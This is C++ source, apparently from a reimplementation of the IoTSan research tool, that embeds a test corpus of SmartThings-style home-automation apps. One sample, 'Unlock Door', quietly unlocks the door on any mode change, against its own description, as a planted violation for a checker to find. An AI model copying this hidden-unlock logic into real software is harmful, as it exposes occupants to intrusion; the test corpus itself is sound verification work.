      .Devices("contact1", {"kitchenContact"})
      .Text("nightMode", "Night");
  b.App(Variant(sources, "Switch Changes Mode", "garage"))
      .Devices("trigger", {"garageLight"})
      .Text("offMode", "Away");
  b.App(Variant(sources, "Smart Security", "garage"))
      .Devices("motions", {"garageMotion"})
      .Devices("alarms", {"siren6"})
      .Text("armedMode", "Away")
      .Text("phone", kPhone);
  b.App(Variant(sources, "Camera On Motion", "garage"))
      .Devices("motion1", {"garageMotion"})
      .Devices("camera1", {"garageCam"});
  b.App(Variant(sources, "It's Too Cold", "kitchen"))
      .Devices("temperatureSensor1", {"tempKitchen"})
      .Number("temperature1", 65)
      .Devices("switch1", {"kettleOutlet"});
  b.App(Variant(sources, "Appliances Off When Away", "kitchen"))
      .Devices("outlets", {"kettleOutlet"})
      .Text("awayMode", "Away");
  b.App(Variant(sources, "Energy Saver", "kitchen"))
      .Devices("outlets", {"kettleOutlet", "kitchenLight"});
  sut.deployment = b.Build();
  return sut;
}

config::Deployment Pool(const std::string& name,
                        const std::vector<std::vector<std::string>>& devs) {
  config::DeploymentBuilder b(name);
  b.ContactPhone(kPhone);
  for (const std::vector<std::string>& dev : devs) {
    const std::string& id = dev[0];
    const std::string& type = dev[1];
    const std::string& role = dev.size() > 2 ? dev[2] : std::string();
    if (role.empty()) {
      b.Device(id, type);
    } else {
      b.Device(id, type, {role});
    }
  }
  return b.Build();
}

}  // namespace

const std::vector<SystemUnderTest>& ExpertGroups() {
  static const std::vector<SystemUnderTest>& groups =
      *new std::vector<SystemUnderTest>([] {
        std::vector<SystemUnderTest> out;
        out.push_back(BuildGroup1());
        out.push_back(BuildGroup2());
        out.push_back(BuildGroup3());
        out.push_back(BuildGroup4());
        out.push_back(BuildGroup5());
        out.push_back(BuildGroup6());
        return out;
      }());
  return groups;
}

const std::vector<VolunteerGroup>& VolunteerGroups() {
  static const std::vector<VolunteerGroup>& groups =
      *new std::vector<VolunteerGroup>([] {
        std::vector<VolunteerGroup> out;
        // The §2.2 user-study scenario: Virtual Thermostat with a
        // temperature sensor and several confusable outlets.
        out.push_back(
            {"V1 climate",
             {"Virtual Thermostat", "It's Too Cold", "It's Too Hot",
              "Energy Saver", "Appliances Off When Away"},
             Pool("V1", {{"myTempMeas", "temperatureSensor", "tempSensor"},
                         {"myHeaterOutlet", "smartOutlet", "heaterOutlet"},
                         {"myACOutlet", "smartOutlet", "acOutlet"},
                         {"livRoomBulbOutlet", "smartOutlet", "applianceOutlet"},
                         {"bedRoomBulbOutlet", "smartOutlet", "applianceOutlet"},
                         {"batRoomBulbOutlet", "smartOutlet", "applianceOutlet"},
                         {"livRoomMotion", "motionSensor", ""},
                         {"batRoomMotion", "motionSensor", ""},
                         {"alicePresence", "presenceSensor", "presence"}})});
        out.push_back(
            {"V2 lighting",
             {"Brighten Dark Places", "Let There Be Dark!",
              "Light Follows Me", "Light Off When Close", "Brighten My Path"},
             Pool("V2", {{"frontDoor", "contactSensor", "frontDoorContact"},
                         {"backDoor", "contactSensor", ""},
                         {"lightMeter", "illuminanceSensor", ""},
                         {"hallLight", "smartSwitch", "light"},
                         {"livingLight", "smartSwitch", "light"},
                         {"hallMotion", "motionSensor", ""}})});
        out.push_back(
            {"V3 locks & modes",
             {"Unlock Door", "Auto Mode Change", "Lock It When I Leave",
              "Lock It At Night", "Good Night"},
             Pool("V3", {{"alicePresence", "presenceSensor", "presence"},
                         {"bobPresence", "presenceSensor", "presence"},
                         {"doorLock", "smartLock", "mainDoorLock"},
                         {"hallLight", "smartSwitch", "light"},
                         {"bedLight", "smartSwitch", "light"}})});
        out.push_back(
            {"V4 security",
             {"Smart Security", "Camera On Motion", "Big Turn On",
              "Switch Changes Mode", "Make It So"},
             Pool("V4", {{"hallMotion", "motionSensor", "securityMotion"},
                         {"frontDoor", "contactSensor", "frontDoorContact"},
                         {"siren", "smartAlarm", "alarmSiren"},
                         {"cam", "camera", "camera"},
                         {"porchLight", "smartSwitch", "securityLight"},
                         {"doorLock", "smartLock", "mainDoorLock"}})});
        out.push_back(
            {"V5 emergency",
             {"Smoke Alarm Deluxe", "CO2 Vent", "Leak Guard",
              "Flood Night Alarm", "Undead Early Warning"},
             Pool("V5", {{"smokeDet", "smokeDetector", "smokeSensor"},
                         {"coDet", "coDetector", "coSensor"},
                         {"siren1", "smartAlarm", "alarmSiren"},
                         {"leak1", "waterLeakSensor", "leakSensor"},
                         {"valve1", "waterValve", "waterValve"},
                         {"doorLock", "smartLock", "mainDoorLock"},
                         {"heaterOutlet", "smartOutlet", "heaterOutlet"},
                         {"fanVent", "smartSwitch", "ventSwitch"},
                         {"gateContact", "contactSensor", ""},
                         {"porchLight", "smartSwitch", "securityLight"}})});
        out.push_back(
            {"V6 garden",
             {"Soil Moisture Watcher", "Sprinkler Timer", "Once A Day",
              "Turn On Before Sunset", "Vacation Lighting"},
             Pool("V6", {{"moisture1", "soilMoistureSensor", "moistureSensor"},
                         {"sprinkler1", "smartSwitch", "sprinklerSwitch"},
                         {"patioLight", "smartSwitch", "light"},
                         {"lightMeter", "illuminanceSensor", ""}})});
        out.push_back(
            {"V7 arrivals",
             {"Welcome Home Lights", "Goodbye Lights", "Music When Home",
              "Silence When Away", "Presence Change Push"},
             Pool("V7", {{"alicePresence", "presenceSensor", "presence"},
                         {"bobPresence", "presenceSensor", "presence"},
                         {"livingLight", "smartSwitch", "light"},
                         {"speaker1", "speaker", "speaker"}})});
        out.push_back(
            {"V8 garage",
             {"Garage Door Auto Close", "Garage Door Opener", "Curfew Check",
              "Auto Lock Door", "Door Knocker Alert"},
             Pool("V8", {{"garageDoor", "garageDoorOpener", "garageDoor"},
                         {"garagePresence", "presenceSensor", "presence"},
                         {"frontDoor", "contactSensor", "frontDoorContact"},
                         {"doorLock", "smartLock", "mainDoorLock"},
                         {"multi1", "multiSensor", ""}})});
        out.push_back(
            {"V9 air quality",
             {"Smart Humidifier", "Dehumidifier Controller",
              "Window Left Open Alert", "Scheduled Mode Change",
              "Night Light"},
             Pool("V9", {{"humSensor", "humiditySensor", ""},
                         {"humidifierOutlet", "smartOutlet", "applianceOutlet"},
                         {"dehumidifierOutlet", "smartOutlet", "applianceOutlet"},
                         {"window1", "contactSensor", ""},
                         {"tempMeas", "temperatureSensor", "tempSensor"},
                         {"bedMotion", "motionSensor", ""},
                         {"nightLamp", "smartSwitch", ""}})});
        out.push_back(
            {"V10 comfort",
             {"Thermostat Mode Director", "Keep Me Cozy", "Shade Closer",
              "Sunrise Shades", "Big Turn Off"},
             Pool("V10", {{"outdoorTemp", "temperatureSensor", "tempSensor"},
                          {"thermo", "thermostatDevice", "thermostat"},
                          {"shade1", "windowShadeController", "windowShade"},
                          {"statusLight", "smartSwitch", "light"}})});
        return out;
      }());
  return groups;
}

}  // namespace iotsan::corpus
