// Market corpus, part D: apps exercising the wider device surface —
// power metering, buttons, sleep sensors, color bulbs, thermostats with
// remembered state, and timer-based "did you forget?" patterns.
#include "corpus/market_apps.hpp"

namespace iotsan::corpus {

std::vector<CorpusApp> MarketAppsPartD() {
  std::vector<CorpusApp> apps;
  auto add = [&apps](std::string name, std::string source) {
    apps.push_back({std::move(name), AppKind::kMarket, std::move(source)});
  };

  add("Laundry Monitor", R"APP(
definition(name: "Laundry Monitor", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Notify me when the washing machine cycle finishes.")

preferences {
    section("Washer plugged into") {
        input "meter", "capability.powerMeter", title: "Outlet"
    }
    section("Running above (watts)") {
        input "wattThreshold", "number", title: "Watts"
    }
}

def installed() {
    subscribe(meter, "power", powerHandler)
}

def powerHandler(evt) {
    if (evt.numericValue > wattThreshold) {
        state.running = true
    } else if (state.running) {
        state.running = false
        sendPush("The laundry is done!")
    }
}
)APP");

  add("Energy Alerts", R"APP(
definition(name: "Energy Alerts", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Warn me when a device draws too much power.")

preferences {
    section("Monitor") {
        input "meters", "capability.powerMeter", title: "Outlets", multiple: true
    }
    section("Alert above (watts)") {
        input "wattThreshold", "number", title: "Watts"
    }
    section("Text me at") {
        input "phone", "phone", title: "Phone", required: false
    }
}

def installed() {
    subscribe(meters, "power", powerHandler)
}

def powerHandler(evt) {
    if (evt.numericValue >= wattThreshold) {
        if (phone) {
            sendSms(phone, "High power draw: ${evt.value}W on ${evt.displayName}")
        } else {
            sendPush("High power draw: ${evt.value}W on ${evt.displayName}")
        }
    }
}
)APP");

  add("Button Controller", R"APP(
definition(name: "Button Controller", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Toggle lights with a button; hold to turn everything off.")

preferences {
    section("Button") {
        input "button1", "capability.button", title: "Button"
    }
    section("Toggle these") {
        input "switches", "capability.switch", title: "Lights", multiple: true
    }
}

def installed() {
    subscribe(button1, "button", buttonHandler)
}

def buttonHandler(evt) {
    if (evt.value == "pushed") {
        def anyOn = switches.find { it.currentSwitch == "on" }
        if (anyOn != null) {
            switches.off()
        } else {
            switches.on()
        }
    } else if (evt.value == "held") {
        switches.off()
    }
}
)APP");

  add("Bedtime Routine", R"APP(
definition(name: "Bedtime Routine", namespace: "iotsan.market",
    author: "SmartThings",
    description: "When the sleep sensor sees you asleep: lights off, night mode.")

preferences {
    section("Sleep sensor") {
        input "sleeper", "capability.sleepSensor", title: "Sensor"
    }
    section("Turn off") {
        input "switches", "capability.switch", title: "Lights", multiple: true
    }
    section("Night mode") {
        input "nightMode", "mode", title: "Mode"
    }
}

def installed() {
    subscribe(sleeper, "sleeping", sleepHandler)
}

def sleepHandler(evt) {
    if (evt.value == "sleeping") {
        switches.off()
        setLocationMode(nightMode)
    }
}
)APP");

  add("Thermostat Window Check", R"APP(
definition(name: "Thermostat Window Check", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Pause the thermostat while a window is open and restore it after.")

preferences {
    section("Windows") {
        input "windows", "capability.contactSensor", title: "Contacts", multiple: true
    }
    section("Thermostat") {
        input "thermostat", "capability.thermostat", title: "Thermostat"
    }
}

def installed() {
    subscribe(windows, "contact", contactHandler)
}

def contactHandler(evt) {
    if (evt.value == "open") {
        state.savedMode = thermostat.currentThermostatMode
        thermostat.off()
    } else {
        def anyOpen = windows.find { it.currentContact == "open" }
        if (anyOpen == null && state.savedMode != null && state.savedMode != "off") {
            thermostat.setThermostatMode(state.savedMode)
            state.savedMode = null
        }
    }
}
)APP");

  add("Left It Open", R"APP(
definition(name: "Left It Open", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Notify me when a door is left open too long.")

preferences {
    section("Door contact") {
        input "contact1", "capability.contactSensor", title: "Door"
    }
    section("After (minutes)") {
        input "openMinutes", "number", title: "Minutes"
    }
}

def installed() {
    subscribe(contact1, "contact", contactHandler)
}

def contactHandler(evt) {
    if (evt.value == "open") {
        runIn(openMinutes * 60, stillOpenCheck)
    }
}

def stillOpenCheck() {
    if (contact1.currentContact == "open") {
        sendPush("${contact1.displayName} has been left open")
    }
}
)APP");

  add("Smart Nightlight", R"APP(
definition(name: "Smart Nightlight", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Light the way at night, but only when it is dark.")

preferences {
    section("Motion") {
        input "motion1", "capability.motionSensor", title: "Sensor"
    }
    section("Light level from") {
        input "luminance1", "capability.illuminanceMeasurement", title: "Sensor"
    }
    section("Control") {
        input "lights", "capability.switch", title: "Nightlights", multiple: true
    }
    section("Dark below (lux)") {
        input "darkPoint", "number", title: "Lux"
    }
}

def installed() {
    subscribe(motion1, "motion", motionHandler)
}

def motionHandler(evt) {
    if (evt.value == "active") {
        if (luminance1.currentIlluminance <= darkPoint) {
            lights.on()
        }
    } else {
        runIn(120, lightsOut)
    }
}

def lightsOut() {
    if (motion1.currentMotion == "inactive") {
        lights.off()
    }
}
)APP");

  add("Color Alert", R"APP(
definition(name: "Color Alert", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Flash a color bulb red when water is detected.")

preferences {
    section("Leak sensor") {
        input "leak1", "capability.waterSensor", title: "Sensor"
    }
    section("Color bulb") {
        input "bulb", "capability.colorControl", title: "Bulb"
    }
}

def installed() {
    subscribe(leak1, "water", waterHandler)
}

def waterHandler(evt) {
    if (evt.value == "wet") {
        bulb.on()
        bulb.setColor("red")
    } else {
        bulb.setColor("white")
    }
}
)APP");

  add("Dry The Wetspot", R"APP(
definition(name: "Dry The Wetspot", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Run a pump when moisture is detected and stop it when dry.")

preferences {
    section("Moisture sensor") {
        input "leak1", "capability.waterSensor", title: "Sensor"
    }
    section("Pump outlet") {
        input "pump", "capability.switch", title: "Pump"
    }
}

def installed() {
    subscribe(leak1, "water", waterHandler)
}

def waterHandler(evt) {
    if (evt.value == "wet") {
        pump.on()
    } else {
        pump.off()
    }
}
)APP");

  add("Knock Knock Lights", R"APP(
definition(name: "Knock Knock Lights", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Blink the porch light when somebody knocks while you are home.")

preferences {
    section("Knocks from") {
        input "accel1", "capability.accelerationSensor", title: "Sensor"
    }
    section("Porch light") {
        input "porch", "capability.switch", title: "Light"
    }
    section("Only when home") {
        input "people", "capability.presenceSensor", title: "Presence", multiple: true
    }
}

def installed() {
    subscribe(accel1, "acceleration.active", knockHandler)
}

def knockHandler(evt) {
    def anyoneHome = people.find { it.currentPresence == "present" }
    if (anyoneHome != null) {
        porch.on()
        runIn(60, porchOff)
    }
}

def porchOff() {
    porch.off()
}
)APP");

  return apps;
}

}  // namespace iotsan::corpus
