// Market corpus, part A: the apps named in the paper (§2.2, §5 Table 2,
// §10, Fig. 8) plus closely related lighting/mode apps.
#include "corpus/market_apps.hpp"

namespace iotsan::corpus {

std::vector<CorpusApp> MarketAppsPartA() {
  std::vector<CorpusApp> apps;
  auto add = [&apps](std::string name, std::string source) {
    apps.push_back({std::move(name), AppKind::kMarket, std::move(source)});
  };

  // Paper Fig. 1 / §2.2: the Virtual Thermostat misconfiguration example.
  add("Virtual Thermostat", R"APP(
definition(name: "Virtual Thermostat", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Control a space heater or window air conditioner in conjunction with any temperature sensor, like a SmartSense Multi.")

preferences {
    section("Choose a temperature sensor... ") {
        input "sensor", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("Select the heater or air conditioner outlet(s)... ") {
        input "outlets", "capability.switch", title: "Outlets", multiple: true
    }
    section("Set the desired temperature ...") {
        input "setpoint", "decimal", title: "Set Temp"
    }
    section("When there's been movement from (optional)") {
        input "motion", "capability.motionSensor", title: "Motion", required: false
    }
    section("Within this number of minutes ...") {
        input "minutes", "number", title: "Minutes", required: false
    }
    section("But never go below (or above if A/C) this value with or without motion ...") {
        input "emergencySetpoint", "decimal", title: "Emer Temp", required: false
    }
    section("Select 'heat' for a heater and 'cool' for an air conditioner ...") {
        input "mode", "enum", title: "Heating or cooling?", options: ["heat", "cool"]
    }
}

def installed() {
    subscribe(sensor, "temperature", temperatureHandler)
    if (motion) {
        subscribe(motion, "motion", motionHandler)
    }
}

def temperatureHandler(evt) {
    def isActive = hasBeenRecentMotion()
    if (isActive || emergencySetpoint) {
        evaluateTemp(evt.numericValue, isActive ? setpoint : emergencySetpoint)
    } else {
        outlets.off()
    }
}

def motionHandler(evt) {
    if (evt.value == "active") {
        def lastTemp = sensor.currentTemperature
        if (lastTemp != null) {
            evaluateTemp(lastTemp, setpoint)
        }
    } else if (evt.value == "inactive") {
        def isActive = hasBeenRecentMotion()
        if (isActive || emergencySetpoint) {
            def lastTemp = sensor.currentTemperature
            if (lastTemp != null) {
                evaluateTemp(lastTemp, isActive ? setpoint : emergencySetpoint)
            }
        } else {
            outlets.off()
        }
    }
}

def evaluateTemp(currentTemp, desiredTemp) {
    if (mode == "cool") {
        // Air conditioner.
        if (currentTemp - desiredTemp >= 1.0) {
            outlets.on()
        } else if (desiredTemp - currentTemp >= 1.0) {
            outlets.off()
        }
    } else {
        // Heater.
        if (desiredTemp - currentTemp >= 1.0) {
            outlets.on()
        } else if (currentTemp - desiredTemp >= 1.0) {
            outlets.off()
        }
    }
}

def hasBeenRecentMotion() {
    def isActive = false
    if (motion && minutes) {
        if (motion.currentMotion == "active") {
            isActive = true
        }
    } else {
        isActive = true
    }
    return isActive
}
)APP");

  // Paper Table 2, vertex 0.
  add("Brighten Dark Places", R"APP(
definition(name: "Brighten Dark Places", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn your lights on when an open/close sensor opens and the space is dark.")

preferences {
    section("When the door opens...") {
        input "contact1", "capability.contactSensor", title: "Where?"
    }
    section("And it's dark...") {
        input "luminance1", "capability.illuminanceMeasurement", title: "Where?"
    }
    section("Turn on a light...") {
        input "switches", "capability.switch", title: "Lights", multiple: true
    }
}

def installed() {
    subscribe(contact1, "contact.open", contactOpenHandler)
}

def contactOpenHandler(evt) {
    def lightSensorState = luminance1.currentIlluminance
    if (lightSensorState != null && lightSensorState < 100) {
        log.debug "light level is ${lightSensorState}, turning on lights"
        switches.on()
    }
}
)APP");

  // Paper Table 2, vertex 1 (conflicting with Brighten Dark Places).
  add("Let There Be Dark!", R"APP(
definition(name: "Let There Be Dark!", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn your lights off when an open/close sensor opens and on when it closes.")

preferences {
    section("When the door opens/closes...") {
        input "contact1", "capability.contactSensor", title: "Where?"
    }
    section("Turn lights off/on...") {
        input "switches", "capability.switch", title: "Lights", multiple: true
    }
}

def installed() {
    subscribe(contact1, "contact", contactHandler)
}

def contactHandler(evt) {
    if (evt.value == "open") {
        switches.off()
    } else if (evt.value == "closed") {
        switches.on()
    }
}
)APP");

  // Paper Table 2, vertex 2.
  add("Auto Mode Change", R"APP(
definition(name: "Auto Mode Change", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Change location mode based on presence.")

preferences {
    section("Who?") {
        input "people", "capability.presenceSensor", title: "Presence sensors", multiple: true
    }
    section("Mode when someone is home") {
        input "homeMode", "mode", title: "Home mode"
    }
    section("Mode when everyone leaves") {
        input "awayMode", "mode", title: "Away mode"
    }
}

def installed() {
    subscribe(people, "presence", presenceHandler)
}

def presenceHandler(evt) {
    if (evt.value == "notpresent") {
        if (everyoneIsAway()) {
            setLocationMode(awayMode)
        }
    } else if (evt.value == "present") {
        setLocationMode(homeMode)
    }
}

def everyoneIsAway() {
    def result = true
    for (person in people) {
        if (person.currentPresence == "present") {
            result = false
        }
    }
    return result
}
)APP");

  // Paper Table 2, vertices 3-4; §8's running counter-example (Fig. 7).
  add("Unlock Door", R"APP(
definition(name: "Unlock Door", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Unlocks the door when you tell it to.")

preferences {
    section("Which lock?") {
        input "lock1", "capability.lock", title: "Lock"
    }
}

def installed() {
    subscribe(app, appTouch)
    subscribe(location, "mode", changedLocationMode)
}

def appTouch(evt) {
    lock1.unlock()
}

def changedLocationMode(evt) {
    // Inconsistent with the description: also unlocks on mode change
    // (the paper's §8 example violation).
    lock1.unlock()
}
)APP");

  // Paper Table 2, vertices 5-6.
  add("Big Turn On", R"APP(
definition(name: "Big Turn On", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn your lights on when the SmartApp is tapped or activated.")

preferences {
    section("These switches...") {
        input "switches", "capability.switch", title: "Switches", multiple: true
    }
}

def installed() {
    subscribe(app, appTouch)
    subscribe(location, "mode", changedLocationMode)
}

def appTouch(evt) {
    switches.on()
}

def changedLocationMode(evt) {
    switches.on()
}
)APP");

  add("Big Turn Off", R"APP(
definition(name: "Big Turn Off", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn your lights off when the SmartApp is tapped or activated.")

preferences {
    section("These switches...") {
        input "switches", "capability.switch", title: "Switches", multiple: true
    }
}

def installed() {
    subscribe(app, appTouch)
    subscribe(location, "mode", changedLocationMode)
}

def appTouch(evt) {
    switches.off()
}

def changedLocationMode(evt) {
    switches.off()
}
)APP");

  // Paper Fig. 8a.
  add("Good Night", R"APP(
definition(name: "Good Night", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Changes the mode to a sleeping mode when all the lights are turned off after a given time.")

preferences {
    section("When all of these lights are off...") {
        input "switches", "capability.switch", title: "Lights", multiple: true
    }
    section("Change to this mode...") {
        input "sleepMode", "mode", title: "Sleeping mode"
    }
    section("After this time of day") {
        input "startTime", "time", title: "Start time", required: false
    }
}

def installed() {
    subscribe(switches, "switch.off", switchOffHandler)
}

def switchOffHandler(evt) {
    def anyOn = switches.find { it.currentSwitch == "on" }
    if (anyOn == null && timeOfDayIsBetween(startTime, "23:59")) {
        setLocationMode(sleepMode)
    }
}
)APP");

  // Paper Fig. 8a.
  add("Light Follows Me", R"APP(
definition(name: "Light Follows Me", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn your lights on when motion is detected then off again once the motion stops.")

preferences {
    section("Turn on when there's movement...") {
        input "motion1", "capability.motionSensor", title: "Where?"
    }
    section("And off when there's been no movement for...") {
        input "minutes1", "number", title: "Minutes?", required: false
    }
    section("Turn on/off light(s)...") {
        input "switches", "capability.switch", title: "Switches", multiple: true
    }
}

def installed() {
    subscribe(motion1, "motion", motionHandler)
}

def motionHandler(evt) {
    if (evt.value == "active") {
        switches.on()
    } else if (evt.value == "inactive") {
        runIn((minutes1 ?: 1) * 60, scheduledLightsOff)
    }
}

def scheduledLightsOff() {
    if (motion1.currentMotion == "inactive") {
        switches.off()
    }
}
)APP");

  // Paper Fig. 8a.
  add("Light Off When Close", R"APP(
definition(name: "Light Off When Close", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn lights off when a contact sensor closes.")

preferences {
    section("When the door closes...") {
        input "contact1", "capability.contactSensor", title: "Where?"
    }
    section("Turn off light(s)...") {
        input "switches", "capability.switch", title: "Switches", multiple: true
    }
}

def installed() {
    subscribe(contact1, "contact.closed", contactClosedHandler)
}

def contactClosedHandler(evt) {
    switches.off()
}
)APP");

  // Paper Fig. 8b.
  add("Make It So", R"APP(
definition(name: "Make It So", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Lock the doors and turn off devices when the location changes to Away.")

preferences {
    section("Lock these locks...") {
        input "locks", "capability.lock", title: "Locks", multiple: true, required: false
    }
    section("Turn off these switches...") {
        input "offSwitches", "capability.switch", title: "Switches", multiple: true, required: false
    }
    section("When the mode becomes") {
        input "awayMode", "mode", title: "Away mode"
    }
}

def installed() {
    subscribe(location, "mode", modeChangeHandler)
}

def modeChangeHandler(evt) {
    if (evt.value == awayMode) {
        if (locks) {
            locks.lock()
        }
        if (offSwitches) {
            offSwitches.off()
        }
    }
}
)APP");

  // Paper Fig. 8b.
  add("Darken Behind Me", R"APP(
definition(name: "Darken Behind Me", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn your lights off after there has been no motion.")

preferences {
    section("When there's no movement...") {
        input "motion1", "capability.motionSensor", title: "Where?"
    }
    section("Turn off...") {
        input "switches", "capability.switch", title: "Switches", multiple: true
    }
}

def installed() {
    subscribe(motion1, "motion.inactive", motionInactiveHandler)
}

def motionInactiveHandler(evt) {
    switches.off()
}
)APP");

  // Paper Fig. 8b's mode-changing link.
  add("Switch Changes Mode", R"APP(
definition(name: "Switch Changes Mode", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Change the location mode when a switch turns on or off.")

preferences {
    section("Which switch?") {
        input "trigger", "capability.switch", title: "Switch"
    }
    section("Mode when on") {
        input "onMode", "mode", title: "On mode", required: false
    }
    section("Mode when off") {
        input "offMode", "mode", title: "Off mode", required: false
    }
}

def installed() {
    subscribe(trigger, "switch", switchHandler)
}

def switchHandler(evt) {
    if (evt.value == "on" && onMode) {
        setLocationMode(onMode)
    } else if (evt.value == "off" && offMode) {
        setLocationMode(offMode)
    }
}
)APP");

  // Paper Table 5: "A heater is turned off at night ..." (Energy Saver).
  add("Energy Saver", R"APP(
definition(name: "Energy Saver", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn off energy-hungry devices on a nightly schedule.")

preferences {
    section("Turn off these devices...") {
        input "outlets", "capability.switch", title: "Outlets", multiple: true
    }
}

def installed() {
    schedule("0 0 22 * * ?", nightlyOff)
}

def nightlyOff() {
    outlets.off()
}
)APP");

  add("It's Too Cold", R"APP(
definition(name: "It's Too Cold", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Monitor the temperature and when it drops below your setting get a notification and turn on a heater.")

preferences {
    section("Monitor the temperature...") {
        input "temperatureSensor1", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("When the temperature drops below...") {
        input "temperature1", "number", title: "Temperature?"
    }
    section("Turn on a heater...") {
        input "switch1", "capability.switch", title: "Heater", required: false, multiple: true
    }
}

def installed() {
    subscribe(temperatureSensor1, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
    def tooCold = temperature1
    if (evt.numericValue <= tooCold) {
        sendPush("Temperature dropped below ${tooCold}")
        if (switch1) {
            switch1.on()
        }
    }
}
)APP");

  add("It's Too Hot", R"APP(
definition(name: "It's Too Hot", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Monitor the temperature and when it rises above your setting get a notification and turn on an A/C unit.")

preferences {
    section("Monitor the temperature...") {
        input "temperatureSensor1", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("When the temperature rises above...") {
        input "temperature1", "number", title: "Temperature?"
    }
    section("Turn on an A/C unit...") {
        input "switch1", "capability.switch", title: "A/C", required: false, multiple: true
    }
}

def installed() {
    subscribe(temperatureSensor1, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
    def tooHot = temperature1
    if (evt.numericValue >= tooHot) {
        sendPush("Temperature rose above ${tooHot}")
        if (switch1) {
            switch1.on()
        }
    }
}
)APP");

  add("Brighten My Path", R"APP(
definition(name: "Brighten My Path", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn your lights on when motion is detected.")

preferences {
    section("When there's movement...") {
        input "motion1", "capability.motionSensor", title: "Where?"
    }
    section("Turn on...") {
        input "switches", "capability.switch", title: "Lights", multiple: true
    }
}

def installed() {
    subscribe(motion1, "motion.active", motionActiveHandler)
}

def motionActiveHandler(evt) {
    switches.on()
}
)APP");

  add("Automated Light", R"APP(
definition(name: "Automated Light", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn a light on with motion and off after a delay.")

preferences {
    section("When there's movement...") {
        input "motionSensor", "capability.motionSensor", title: "Where?"
    }
    section("Control this light...") {
        input "lights", "capability.switch", title: "Light", multiple: true
    }
    section("Off after (minutes)") {
        input "offDelay", "number", title: "Minutes", required: false
    }
}

def installed() {
    subscribe(motionSensor, "motion", motionChanged)
}

def motionChanged(evt) {
    if (evt.value == "active") {
        lights.on()
    } else {
        runIn((offDelay ?: 5) * 60, delayedOff)
    }
}

def delayedOff() {
    if (motionSensor.currentMotion == "inactive") {
        lights.off()
    }
}
)APP");

  return apps;
}

}  // namespace iotsan::corpus
