// Internal: corpus app chunks, assembled by corpus.cpp.
#pragma once

#include <vector>

#include "corpus/corpus.hpp"

namespace iotsan::corpus {

std::vector<CorpusApp> MarketAppsPartA();  // paper-named lighting/mode apps
std::vector<CorpusApp> MarketAppsPartB();  // security / climate apps
std::vector<CorpusApp> MarketAppsPartC();  // water / misc / leaky apps
std::vector<CorpusApp> MarketAppsPartD();  // wider device surface
std::vector<CorpusApp> MaliciousAppsPart();    // ContexIoT-style attacks
std::vector<CorpusApp> UnsupportedAppsPart();  // dynamic discovery

}  // namespace iotsan::corpus
