// Market corpus, part C: water/sprinkler, humidity, audio, and apps with
// questionable information-flow behaviour.
#include "corpus/market_apps.hpp"

namespace iotsan::corpus {

std::vector<CorpusApp> MarketAppsPartC() {
  std::vector<CorpusApp> apps;
  auto add = [&apps](std::string name, std::string source) {
    apps.push_back({std::move(name), AppKind::kMarket, std::move(source)});
  };

  add("Soil Moisture Watcher", R"APP(
definition(name: "Soil Moisture Watcher", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Run the sprinkler when the soil is dry and stop it when moist.")

preferences {
    section("Soil moisture from") {
        input "moisture1", "capability.soilMoistureMeasurement", title: "Moisture sensor"
    }
    section("Sprinkler switch") {
        input "sprinklers", "capability.switch", title: "Sprinklers", multiple: true
    }
    section("Run when moisture below") {
        input "dryPoint", "number", title: "Percent"
    }
    section("Stop when moisture above") {
        input "wetPoint", "number", title: "Percent"
    }
}

def installed() {
    subscribe(moisture1, "soilMoisture", moistureHandler)
}

def moistureHandler(evt) {
    if (evt.numericValue <= dryPoint) {
        sprinklers.on()
    } else if (evt.numericValue >= wetPoint) {
        sprinklers.off()
    }
}
)APP");

  add("Sprinkler Timer", R"APP(
definition(name: "Sprinkler Timer", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Run the sprinkler on a daily schedule.")

preferences {
    section("Sprinkler switch") {
        input "sprinklers", "capability.switch", title: "Sprinklers", multiple: true
    }
    section("Run for (minutes)") {
        input "runMinutes", "number", title: "Minutes", required: false
    }
}

def installed() {
    schedule("0 0 6 * * ?", startWatering)
}

def startWatering() {
    sprinklers.on()
    runIn((runMinutes ?: 10) * 60, stopWatering)
}

def stopWatering() {
    sprinklers.off()
}
)APP");

  add("Leak Guard", R"APP(
definition(name: "Leak Guard", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Shut the water valve and alert you when a leak is detected.")

preferences {
    section("Leak detected by") {
        input "leak1", "capability.waterSensor", title: "Leak sensor"
    }
    section("Close this valve") {
        input "valve1", "capability.valve", title: "Water valve"
    }
    section("Text me at") {
        input "phone", "phone", title: "Phone number", required: false
    }
}

def installed() {
    subscribe(leak1, "water.wet", leakHandler)
}

def leakHandler(evt) {
    valve1.close()
    if (phone) {
        sendSms(phone, "Water leak detected! Valve closed.")
    } else {
        sendPush("Water leak detected! Valve closed.")
    }
}
)APP");

  add("Flood Night Alarm", R"APP(
